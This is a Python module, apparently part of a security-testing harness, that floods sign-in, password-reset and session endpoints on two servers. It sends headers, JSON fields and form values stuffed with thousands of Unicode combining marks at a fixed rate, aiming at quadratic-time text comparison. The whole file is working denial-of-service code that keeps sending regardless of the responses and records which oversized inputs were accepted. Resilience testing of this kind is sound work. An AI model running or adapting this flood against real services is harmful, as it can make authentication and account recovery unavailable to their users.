"""100 kB a second of texts with long runs of combining marks, which take quadratic time to compare, at both servers."""

import json
import time
import urllib.parse

import raw
from prober import Prober

RATE = 100_000
MARKS = "e" + "\u0301\u0323\u0327" * 2_400


def requests(lagoon):
    """A name, the server, and the request, again and again."""
    text = MARKS.encode()
    header = text.decode("latin-1")
    body = json.dumps({"email": MARKS * 4}, ensure_ascii=False).encode()
    name = json.dumps({MARKS * 4: 1}, ensure_ascii=False).encode()
    form = b"name=" + urllib.parse.quote(MARKS[:2_000]).encode() + b"&password=x"
    kind = [("Content-Type", "application/json")]
    while True:
        yield "Accept-Language", "shell", ("GET", "/sign-in", [("Accept-Language", header)]), len(text)
        yield "Accept-Language", "center", ("GET", "/sign-in", [("Accept-Language", header)]), len(text)
        yield "Host", "shell", ("GET", "/sign-in", [("Host", header)]), len(text)
        yield "a value of JSON", "center", ("POST", "/v1/password/reset", kind, body), len(body)
        yield "a name of JSON", "center", ("POST", "/v1/password/reset", kind, name), len(name)
        yield "a value of JSON", "shell", ("POST", "/app-session", kind, body), len(body)
        yield "a form", "shell", (
            "POST", "/sign-in", [("Content-Type", "application/x-www-form-urlencoded"), ("Origin", lagoon.origin)], form), len(form)


def flood(lagoon, connections, stop):
    """Sends them at the rate, until `stop` is set, whatever is answered."""
    began, sent = time.monotonic(), 0
    for _, side, request, length in requests(lagoon):
        try:
            connections[side].request(*request)
        except (raw.Hang, raw.Gone):
            pass
        sent += length
        if stop.wait(max(0, began + sent / RATE - time.monotonic())):
            return


def attack(target):
    began = time.monotonic()
    seconds = 8 if target.is_short else 60
    prober, sent = Prober(target, seconds), 0
    for what, side, request, length in requests(target.lagoon):
        if prober.is_over:
            break
        answer = prober.send(f"{what} with marks ({side})", side, *request)
        if answer and answer.status < 400:
            prober.found.append(f"{what} with {len(MARKS)} marks was taken ({side}, {answer.status}).")
        sent += length
        time.sleep(max(0, began + sent / RATE - time.monotonic()))
    return prober.found + target.measured(began, "texts with many marks")
